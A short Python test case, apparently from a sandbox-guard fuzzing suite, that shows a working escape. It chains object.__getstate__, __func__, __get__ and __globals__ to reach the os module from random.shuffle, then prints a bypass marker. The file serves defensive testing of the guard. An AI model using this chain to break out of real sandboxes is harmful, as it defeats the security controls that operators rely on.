# object.__getstate__(cls) returns a copy of the class's __dict__: its raw descriptors, which
# __get__ applies to any instance: the method type's __func__, then the function type's
# __globals__ (both __getstate__ and __get__ were harmless dunders). Found with fuzz_guard's oracle.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "111_object_getstate_class_dict"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import random

func = object.__getstate__(type(random.shuffle))["__func__"].__get__(random.shuffle)
g = object.__getstate__(type(func))["__globals__"].__get__(func)
won(g["_os"].getcwd())
